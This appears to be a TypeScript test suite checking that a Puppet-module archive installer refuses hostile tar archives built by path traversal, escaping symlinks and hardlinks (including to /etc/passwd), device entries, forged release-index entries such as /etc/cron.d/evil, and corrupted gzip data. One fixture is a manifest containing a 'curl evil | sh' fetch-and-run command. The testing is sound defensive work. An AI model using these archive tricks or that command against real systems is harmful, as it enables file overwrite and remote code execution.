import {lstat, mkdir, mkdtemp, readFile, readdir, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {gunzipSync, gzipSync} from 'node:zlib'

import test, {type ExecutionContext} from 'ava'
import {Header} from 'tar'

import {installArchive} from '../../../src/lib/install/install-archive.js'
import {openArchive} from '../../../src/lib/install/open-archive.js'
import {verifyInstalled} from '../../../src/lib/verify/verify-installed.js'
import {packRelease} from '../../../src/lib/archive/pack.js'
import {type ReleaseIndex, RELEASE_INDEX} from '../../../src/lib/archive/release-index.js'
import {treeDigest} from '../../../src/lib/tree/release-tree.js'
import {LocalpuppetError} from '../../../src/lib/errors.js'
import {readEntries, sha256, snapshot} from '../../helpers/snapshot.js'
import {exists, tempDir, writeReleases, writeTree} from '../../helpers/temp.js'

// --- the genuine archive and a tar writer to alter it ----------------------------------

/** One tar entry as the corpus handles it: enough to write it back, altered or not. */
interface Entry {
  path: string
  type: string
  data: Buffer
  mode?: number
  linkpath?: string
  /** The size written in the header, when it should lie about the data. */
  size?: number
  devmaj?: number
  devmin?: number
}

/** A ustar stream of the entries exactly as given (no path sanitising), ending with two zero blocks. */
function tarOf(entries: Entry[]): Buffer {
  const blocks: Buffer[] = []
  for (const entry of entries) {
    const header = new Header({
      path: entry.path,
      type: entry.type as Header['type'],
      mode: entry.mode ?? 0o644,
      uid: 0,
      gid: 0,
      size: entry.size ?? entry.data.length,
      mtime: new Date(0),
      linkpath: entry.linkpath,
      uname: '',
      gname: '',
      devmaj: entry.devmaj ?? 0,
      devmin: entry.devmin ?? 0,
    })
    if (header.encode()) throw new Error(`${entry.path}: does not fit a plain ustar header`)
    blocks.push(header.block!, entry.data, Buffer.alloc((512 - (entry.data.length % 512)) % 512))
  }

  blocks.push(Buffer.alloc(1024))
  return Buffer.concat(blocks)
}

const gzip = (entries: Entry[]): Buffer => gzipSync(tarOf(entries))
const file = (path: string, content: string | Buffer, mode = 0o644): Entry => ({path, type: 'File', data: Buffer.from(content), mode})

const APP = 'foo/tags/1.0.0'
const DEP = 'dist/tags/2.0.1'
const INIT = `${APP}/foo/manifests/init.pp`
const DATA = `${APP}/files/data.txt`

/** The genuine archive every hostile one is made from, packed once for the file. */
let genuine: {gz: Buffer; entries: Entry[]; index: ReleaseIndex; dir: string}
/** An unrelated release, installed into every module dir first so "unchanged" means something. */
let unrelated: string

test.before(async () => {
  const dir = await mkdtemp(join(tmpdir(), 'localpuppet-hostile-'))
  const src = join(dir, 'src')
  await writeReleases(src, {[APP]: [DEP], [DEP]: null, 'other/tags/0.1.0': null})
  await writeTree(src, {
    [DATA]: 'some data that a hostile archive will alter\n',
    [`${APP}/bin/run.sh`]: {mode: 0o755, content: '#!/bin/sh\necho hi\n'},
    [`${DEP}/dist/files/big.txt`]: 'x'.repeat(70_000),
  })
  const archive = join(dir, 'foo-1.0.0.tar.gz')
  await packRelease({moduleDir: src, ref: APP, output: archive})
  unrelated = join(dir, 'other-0.1.0.tar.gz')
  await packRelease({moduleDir: src, ref: 'other/tags/0.1.0', output: unrelated})
  const gz = await readFile(archive)
  const entries = await readEntries(gz)
  genuine = {gz, entries, index: JSON.parse(entries[0].data.toString('utf8')) as ReleaseIndex, dir}
})

test.after.always(async () => {
  if (genuine) await rm(genuine.dir, {recursive: true, force: true})
})

// --- what "nothing changed" means ---------------------------------------------------------

/** Content, mode and link count of one file outside the test's reach (e.g. /etc/passwd). */
async function fingerprint(path: string): Promise<string> {
  const info = await lstat(path)
  return `${info.mode.toString(8)} links=${info.nlink} ${sha256(await readFile(path))}`
}


/**
 * A test's world: `root` (the test's temp dir) holds the module dir, the hostile archive
 * and the targets an attack would write to; the module dir already holds an installed release.
 */
interface World {
  root: string
  moduleDir: string
  /** An existing directory outside the module dir a symlink entry points at. */
  outsideDir: string
  /** An existing file outside the module dir a hardlink entry points at. */
  outsideFile: string
}

async function world(t: ExecutionContext, options: {empty?: boolean} = {}): Promise<World> {
  const root = await tempDir(t, 'localpuppet-hostile-')
  const moduleDir = join(root, 'modules')
  await mkdir(moduleDir)
  if (!options.empty) {
    const {stream, label} = await openArchive(unrelated)
    const result = await installArchive(stream, label, {moduleDir, trustDir: null})
    t.deepEqual(result.installed, ['other/tags/0.1.0'])
  }

  const outsideDir = join(root, 'outside-dir')
  await mkdir(outsideDir)
  const outsideFile = join(root, 'outside-file.txt')
  await writeFile(outsideFile, 'not yours\n')
  return {root, moduleDir, outsideDir, outsideFile}
}

/**
 * Installs `archive` into the world's module dir and checks the refusal: a LocalpuppetError
 * with exit code 65 whose message names `names`, and nothing changed anywhere in the test's
 * temp dir (module dir included), nor /etc/passwd; no staging or lock left behind.
 */
async function assertRefused(t: ExecutionContext, w: World, archive: Buffer, names: string[], mustNotExist: string[] = []): Promise<void> {
  const path = join(w.root, 'hostile.tar.gz')
  await writeFile(path, archive)
  const before = await snapshot(w.root)
  const passwd = await fingerprint('/etc/passwd')
  const {stream, label} = await openArchive(path)
  const error = await t.throwsAsync(installArchive(stream, label, {moduleDir: w.moduleDir, trustDir: null}))
  t.true(error instanceof LocalpuppetError, `not a LocalpuppetError: ${error?.stack}`)
  t.is((error as LocalpuppetError).exitCode, 65, error?.message)
  t.true(error!.message.startsWith(`${path}: `), error?.message)
  // A refused archive is not left open (its file handle would be closed only by the GC).
  t.true(stream.destroyed, 'the archive stream was left open')
  for (const name of names) t.true(error!.message.includes(name), `message ${JSON.stringify(error?.message)} does not name ${name}`)
  t.deepEqual(await snapshot(w.root), before)
  t.is(await fingerprint('/etc/passwd'), passwd)
  for (const target of mustNotExist) t.false(await exists(target), `${target} was created`)
  const own = join(w.moduleDir, '.localpuppet')
  if (await exists(own)) t.deepEqual(await readdir(own), ['records'])
  t.false(await exists(join(w.moduleDir, APP)))
  t.false(await exists(join(w.moduleDir, DEP)))
}

/** The genuine entries with `extra` inserted after the first file (something is staged) or at the end. */
function withEntries(extra: Entry[], where: 'middle' | 'end'): Entry[] {
  const entries = [...genuine.entries]
  entries.splice(where === 'middle' ? 2 : entries.length, 0, ...extra)
  return entries
}

/** The genuine entries with release.json replaced by `edit` applied to it. */
function withIndex(edit: (index: ReleaseIndex) => void, entries = genuine.entries): Entry[] {
  const index = structuredClone(genuine.index)
  edit(index)
  return [file(RELEASE_INDEX, JSON.stringify(index, null, 1) + '\n'), ...entries.slice(1)]
}

const entryIndex = (path: string): number => {
  const found = genuine.entries.findIndex((entry) => entry.path === path)
  if (found === -1) throw new Error(`${path} is not in the genuine archive`)
  return found
}

// --- the corpus is made from a genuine archive -------------------------------------------

test('the genuine archive holds release.json first, then regular files only', (t) => {
  t.is(genuine.entries[0].path, RELEASE_INDEX)
  t.true(genuine.entries.every((entry) => entry.type === 'File'))
  t.true(genuine.entries.some((entry) => entry.path === DATA))
})

test('the genuine archive, rewritten by the corpus writer without changes, installs', async (t) => {
  // The control: every refusal below comes from the alteration, not from the rewriting.
  const w = await world(t)
  const path = join(w.root, 'rewritten.tar.gz')
  await writeFile(path, gzip(genuine.entries))
  const {stream, label} = await openArchive(path)
  const result = await installArchive(stream, label, {moduleDir: w.moduleDir, trustDir: null})
  t.deepEqual(result.installed, [DEP, APP])
  t.is(await readFile(join(w.moduleDir, DATA), 'utf8'), 'some data that a hostile archive will alter\n')
})

test('the genuine archive with its files in reverse order (not the order pack writes) installs the same', async (t) => {
  // Install matches entries against release.json in pack's order without a lookup table;
  // any other order must still be read, by the map made for it.
  const w = await world(t)
  const path = join(w.root, 'reversed.tar.gz')
  await writeFile(path, gzip([genuine.entries[0], ...genuine.entries.slice(1).reverse()]))
  const {stream, label} = await openArchive(path)
  const result = await installArchive(stream, label, {moduleDir: w.moduleDir, trustDir: null})
  t.deepEqual(result.installed, [DEP, APP])
  t.is(await readFile(join(w.moduleDir, DATA), 'utf8'), 'some data that a hostile archive will alter\n')
  t.true((await verifyInstalled(w.moduleDir, [])).results.every((r) => r.ok))
})

test('a listed file repeated before its turn (the second copy where pack puts it) is refused', async (t) => {
  const w = await world(t)
  const last = genuine.entries.at(-1)!
  await assertRefused(t, w, gzip([genuine.entries[0], last, ...genuine.entries.slice(1)]), [JSON.stringify(last.path), 'appears twice'])
})

// --- entries added to a genuine archive -----------------------------------------------------

for (const where of ['middle', 'end'] as const) {
  const at = where === 'middle' ? 'after the first file' : 'after every listed file'

  test(`a ../evil path ${at} is refused and nothing is written`, async (t) => {
    const w = await world(t)
    await assertRefused(t, w, gzip(withEntries([file('../evil', 'pwned\n')], where)), ['"../evil"'], [join(w.root, 'evil')])
  })

  test(`a path climbing out of a release (${APP}/../../../../evil) ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${APP}/../../../../evil-deep`
    await assertRefused(t, w, gzip(withEntries([file(path, 'pwned\n')], where)), [JSON.stringify(path)], [join(w.root, 'evil-deep')])
  })

  test(`an absolute path ${at} is refused and nothing is written there`, async (t) => {
    const w = await world(t)
    const target = join(w.root, 'evil-absolute')
    await assertRefused(t, w, gzip(withEntries([file(target, 'pwned\n')], where)), [JSON.stringify(target)], [target])
  })

  test(`a symlink inside a declared release, then a file written through it, ${at}: refused at the link`, async (t) => {
    const w = await world(t)
    const link = `${APP}/escape`
    const entries = [
      {path: link, type: 'SymbolicLink', linkpath: w.outsideDir, data: Buffer.alloc(0), mode: 0o777},
      file(`${link}/evil.txt`, 'pwned\n'),
    ]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(link), 'symbolic link'], [join(w.outsideDir, 'evil.txt')])
    t.deepEqual(await readdir(w.outsideDir), [])
  })

  test(`a relative symlink climbing out of the module dir ${at} is refused`, async (t) => {
    const w = await world(t)
    const link = `${DEP}/up`
    const entries = [
      {path: link, type: 'SymbolicLink', linkpath: '../../../../outside-dir', data: Buffer.alloc(0), mode: 0o777},
      file(`${link}/evil.txt`, 'pwned\n'),
    ]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(link)], [join(w.outsideDir, 'evil.txt')])
  })

  test(`a hardlink to /etc/passwd ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${APP}/passwd`
    const entries = [{path, type: 'Link', linkpath: '/etc/passwd', data: Buffer.alloc(0)}]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(path), 'hard link'])
  })

  test(`a hardlink to a file outside the module dir ${at} is refused and the file keeps one link`, async (t) => {
    const w = await world(t)
    const path = `${APP}/files/stolen.txt`
    const entries = [{path, type: 'Link', linkpath: w.outsideFile, data: Buffer.alloc(0)}]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(path), 'hard link'])
    t.is((await lstat(w.outsideFile)).nlink, 1)
  })

  test(`a character device ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${APP}/null`
    const entries = [{path, type: 'CharacterDevice', data: Buffer.alloc(0), devmaj: 1, devmin: 3}]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(path), 'device'])
  })

  test(`a block device ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${DEP}/sda`
    const entries = [{path, type: 'BlockDevice', data: Buffer.alloc(0), devmaj: 8, devmin: 0}]
    await assertRefused(t, w, gzip(withEntries(entries, where)), [JSON.stringify(path), 'device'])
  })

  test(`a FIFO ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${APP}/fifo`
    await assertRefused(t, w, gzip(withEntries([{path, type: 'FIFO', data: Buffer.alloc(0)}], where)), [JSON.stringify(path), 'FIFO'])
  })

  test(`an unlisted extra file inside a declared release ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = `${APP}/foo/manifests/backdoor.pp`
    await assertRefused(t, w, gzip(withEntries([file(path, 'exec { "curl evil | sh": }\n')], where)), [JSON.stringify(path), 'not listed'])
  })

  test(`a file outside any declared release ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = 'bar/tags/6.6.6/bar/manifests/init.pp'
    await assertRefused(t, w, gzip(withEntries([file(path, 'class bar {}\n')], where)), [JSON.stringify(path)], [join(w.moduleDir, 'bar')])
  })

  test(`a file at the module dir's top level ${at} is refused`, async (t) => {
    const w = await world(t)
    await assertRefused(t, w, gzip(withEntries([file('evil.pp', 'class evil {}\n')], where)), ['"evil.pp"'], [join(w.moduleDir, 'evil.pp')])
  })

  test(`a file in .localpuppet (an install record) ${at} is refused`, async (t) => {
    const w = await world(t)
    const path = '.localpuppet/records/other/tags/0.1.0.json'
    await assertRefused(t, w, gzip(withEntries([file(path, '{}\n')], where)), [JSON.stringify(path)])
  })

  test(`a directory entry outside the declared releases ${at} is refused`, async (t) => {
    const w = await world(t)
    await assertRefused(t, w, gzip(withEntries([{path: 'evil-dir/', type: 'Directory', data: Buffer.alloc(0), mode: 0o755}], where)), ['"evil-dir/"'], [
      join(w.moduleDir, 'evil-dir'),
    ])
  })

  test(`an absolute directory entry ${at} is refused`, async (t) => {
    const w = await world(t)
    const target = join(w.root, 'evil-abs-dir')
    await assertRefused(t, w, gzip(withEntries([{path: `${target}/`, type: 'Directory', data: Buffer.alloc(0), mode: 0o755}], where)), [target], [target])
  })

  test(`a listed file's entry repeated ${at} is refused`, async (t) => {
    const w = await world(t)
    const original = genuine.entries[entryIndex(INIT)]
    await assertRefused(t, w, gzip(withEntries([{...original}], where)), [INIT, 'twice'])
  })

  test(`a listed file sent again with other content ${at} is refused`, async (t) => {
    const w = await world(t)
    const original = genuine.entries[entryIndex(INIT)]
    const evil = Buffer.from(original.data.toString('utf8').replace('class', 'cl4ss'))
    await assertRefused(t, w, gzip(withEntries([{...original, data: evil}], where)), [INIT])
  })
}

// --- listed entries altered ---------------------------------------------------------------------

test('a listed file whose content was altered (same size, other bytes) is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => ({...entry}))
  const target = entries[entryIndex(DATA)]
  target.data = Buffer.from(target.data.toString('utf8').replace('alter', 'ALTER'))
  t.is(target.data.length, genuine.entries[entryIndex(DATA)].data.length)
  await assertRefused(t, w, gzip(entries), [DATA, 'sha256'])
})

test('the last listed file altered (every other file already staged) is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => ({...entry}))
  const last = entries.at(-1)!
  last.data = Buffer.from(last.data)
  last.data[last.data.length - 1] ^= 0x01
  await assertRefused(t, w, gzip(entries), [last.path, 'sha256'])
})

test('a listed file with a different size is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => ({...entry}))
  const target = entries[entryIndex(DATA)]
  target.data = Buffer.concat([target.data, Buffer.from('one more line\n')])
  await assertRefused(t, w, gzip(entries), [DATA, 'size'])
})

test('a listed file shortened to nothing is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => ({...entry}))
  entries[entryIndex(DATA)].data = Buffer.alloc(0)
  await assertRefused(t, w, gzip(entries), [DATA, 'size'])
})

test('a listed file replaced by a symlink to /etc/passwd is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => (entry.path === DATA ? {path: DATA, type: 'SymbolicLink', linkpath: '/etc/passwd', data: Buffer.alloc(0)} : entry))
  await assertRefused(t, w, gzip(entries), [JSON.stringify(DATA), 'symbolic link'])
})

test('a listed file replaced by a hardlink to another listed file is refused', async (t) => {
  const w = await world(t)
  const entries = genuine.entries.map((entry) => (entry.path === DATA ? {path: DATA, type: 'Link', linkpath: INIT, data: Buffer.alloc(0)} : entry))
  await assertRefused(t, w, gzip(entries), [JSON.stringify(DATA), 'hard link'])
})

test('a listed file left out (the archive cut at an entry boundary) is refused naming it', async (t) => {
  const w = await world(t)
  const last = genuine.entries.at(-1)!
  await assertRefused(t, w, gzip(genuine.entries.slice(0, -1)), [last.path, 'missing'])
})

test('only release.json, every file left out, is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, gzip(genuine.entries.slice(0, 1)), ['missing'])
})

// --- release.json itself --------------------------------------------------------------------------

test('release.json not first is refused', async (t) => {
  const w = await world(t)
  const [index, first, ...rest] = genuine.entries
  await assertRefused(t, w, gzip([first, index, ...rest]), [RELEASE_INDEX])
})

test('release.json missing altogether is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, gzip(genuine.entries.slice(1)), [RELEASE_INDEX])
})

test('release.json as a directory entry is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, gzip([{path: `${RELEASE_INDEX}/`, type: 'Directory', data: Buffer.alloc(0)}, ...genuine.entries]), [RELEASE_INDEX])
})

test('release.json whose digest does not match its file list is refused', async (t) => {
  const w = await world(t)
  const entries = withIndex((index) => {
    index.releases[0].digest = `sha256:${'0'.repeat(64)}`
  })
  await assertRefused(t, w, gzip(entries), [APP, 'digest'])
})

test('release.json listing its files out of byte order (pack never does; its digest recomputed) is refused, naming the file', async (t) => {
  const w = await world(t)
  let second = ''
  const entries = withIndex((index) => {
    const {files} = index.releases[0]
    second = files[1].path
    ;[files[0], files[1]] = [files[1], files[0]]
    index.releases[0].digest = treeDigest(files)
  })
  await assertRefused(t, w, gzip(entries), [APP, second, 'byte order'])
})

test('release.json listing a file twice, or a file that is also a directory, is refused', async (t) => {
  const w = await world(t)
  const twice = withIndex((index) => {
    const {files} = index.releases[0]
    files.splice(1, 0, {...files[0]})
    index.releases[0].digest = treeDigest(files)
  })
  await assertRefused(t, w, gzip(twice), [APP, 'listed twice'])
  const both = withIndex((index) => {
    const {files} = index.releases[0]
    const file = files.find((f) => `${APP}/${f.path}` === DATA)!
    files.push({...file, path: `${file.path}/below`})
    files.sort((a, b) => Buffer.compare(Buffer.from(a.path), Buffer.from(b.path)))
    index.releases[0].digest = treeDigest(files)
  })
  await assertRefused(t, w, gzip(both), [APP, 'both a file and a directory'])
})

test('release.json listing a sha256 for altered content, without updating the digest, is refused', async (t) => {
  // The attacker alters a file and its listed hash but cannot make the digest match.
  const w = await world(t)
  const evil = Buffer.from('some DATA that a hostile archive will alter\n')
  const entries = withIndex(
    (index) => {
      const listed = index.releases[0].files.find((f) => `${APP}/${f.path}` === DATA)!
      listed.sha256 = sha256(evil)
    },
    genuine.entries.map((entry) => (entry.path === DATA ? {...entry, data: evil} : entry)),
  )
  await assertRefused(t, w, gzip(entries), [APP, 'digest'])
})

for (const evilPath of ['../../../evil-listed', '/etc/cron.d/evil', 'foo/../../evil-listed', './manifest.yaml']) {
  test(`release.json listing ${JSON.stringify(evilPath)} (digest recomputed to match) is refused`, async (t) => {
    const w = await world(t)
    const content = Buffer.from('pwned\n')
    const entries = withIndex(
      (index) => {
        index.releases[0].files.push({path: evilPath, size: content.length, executable: false, sha256: sha256(content)})
        index.releases[0].digest = treeDigest(index.releases[0].files)
      },
      [...genuine.entries, file(`${APP}/${evilPath}`, content)],
    )
    await assertRefused(t, w, gzip(entries), [JSON.stringify(evilPath)], [join(w.root, 'evil-listed')])
  })
}

// Issue 26: names counted in bytes, as file systems count them, not in UTF-16 code units.
for (const [name, evilPath] of [
  ['200 × é (400 bytes, 200 code units)', 'é'.repeat(200)],
  ['64 emoji (256 bytes)', '\uD83D\uDE00'.repeat(64)],
  ['a directory of 128 × é', `${'é'.repeat(128)}/x.pp`],
]) {
  test(`release.json listing a name over 255 bytes in non-ASCII letters (${name}) is refused as unsafe, before anything is written`, async (t) => {
    const w = await world(t)
    const content = Buffer.from('x\n')
    const entries = withIndex((index) => {
      index.releases[0].files.push({path: evilPath, size: content.length, executable: false, sha256: sha256(content)})
      index.releases[0].digest = treeDigest(index.releases[0].files)
    })
    await assertRefused(t, w, gzip(entries), [RELEASE_INDEX, 'unsafe or invalid path', JSON.stringify(evilPath)])
  })
}

test('release.json declaring a release path that climbs out (../tags/1.0.0) is refused', async (t) => {
  const w = await world(t)
  const entries = withIndex((index) => {
    index.releases[1].release = '../tags/2.0.1'
    index.modulepath[1] = '../tags/2.0.1'
  })
  await assertRefused(t, w, gzip(entries), ['"../tags/2.0.1"'])
})

test('release.json declaring a release that is not a release path (.localpuppet/records) is refused', async (t) => {
  const w = await world(t)
  const entries = withIndex((index) => {
    index.releases[1].release = '.localpuppet/records'
    index.modulepath[1] = '.localpuppet/records'
  })
  await assertRefused(t, w, gzip(entries), ['".localpuppet/records"'])
})

test('release.json that is not JSON is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, gzip([file(RELEASE_INDEX, '{"format": 1, '), ...genuine.entries.slice(1)]), [RELEASE_INDEX, 'JSON'])
})

test('release.json with a newline in a listed path (a forged digest line) is refused', async (t) => {
  const w = await world(t)
  const entries = withIndex((index) => {
    const listed = index.releases[0].files[0]
    listed.path = `${listed.path}\nffff 1 - x`
    index.releases[0].digest = treeDigest(index.releases[0].files)
  })
  await assertRefused(t, w, gzip(entries), [RELEASE_INDEX, 'unsafe'])
})

// --- broken containers ------------------------------------------------------------------------

test('an archive cut in half is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, genuine.gz.subarray(0, genuine.gz.length >> 1), [])
})

for (const cut of [1, 8, 9, 600]) {
  test(`an archive cut ${cut} byte(s) before its end is refused`, async (t) => {
    const w = await world(t)
    await assertRefused(t, w, genuine.gz.subarray(0, genuine.gz.length - cut), [])
  })
}

test('an uncompressed tar cut in the middle of a file is refused', async (t) => {
  const w = await world(t)
  const tar = gunzipSync(genuine.gz)
  const start = tar.indexOf(Buffer.from('x'.repeat(1000)))
  t.true(start > 0)
  await assertRefused(t, w, tar.subarray(0, start + 5000), [])
})

test('corrupt gzip (bytes flipped in the middle) is refused', async (t) => {
  const w = await world(t)
  const corrupt = Buffer.from(genuine.gz)
  for (let i = 0; i < 16; i++) corrupt[(corrupt.length >> 1) + i] ^= 0xff
  await assertRefused(t, w, corrupt, [])
})

test('corrupt gzip trailer (CRC flipped) is refused', async (t) => {
  const w = await world(t)
  const corrupt = Buffer.from(genuine.gz)
  corrupt[corrupt.length - 8] ^= 0xff
  await assertRefused(t, w, corrupt, [])
})

test('a corrupt tar header checksum inside a valid gzip is refused', async (t) => {
  const w = await world(t)
  const tar = Buffer.from(gunzipSync(genuine.gz))
  const at = tar.indexOf(Buffer.from(DATA))
  t.true(at > 0 && at % 512 === 0)
  tar[at + 148] = tar[at + 148] === 0x31 ? 0x32 : 0x31
  await assertRefused(t, w, gzipSync(tar), [])
})

test('an empty file is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, Buffer.alloc(0), [])
})

test('a plain text file is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, Buffer.from('this is not an archive\njust some text\n'), [])
})

test('gzipped plain text is refused', async (t) => {
  const w = await world(t)
  await assertRefused(t, w, gzipSync(Buffer.from('this is not an archive\njust some text\n'.repeat(40))), [])
})

test('a hostile archive into an empty module dir leaves it empty (no .localpuppet either)', async (t) => {
  const w = await world(t, {empty: true})
  await assertRefused(t, w, gzip(withEntries([file('../evil', 'pwned\n')], 'end')), ['"../evil"'], [join(w.root, 'evil')])
  t.deepEqual(await readdir(w.moduleDir), [])
  const corrupt = Buffer.from(genuine.gz)
  corrupt[corrupt.length >> 1] ^= 0xff
  await assertRefused(t, w, corrupt, [])
  t.deepEqual(await readdir(w.moduleDir), [])
})
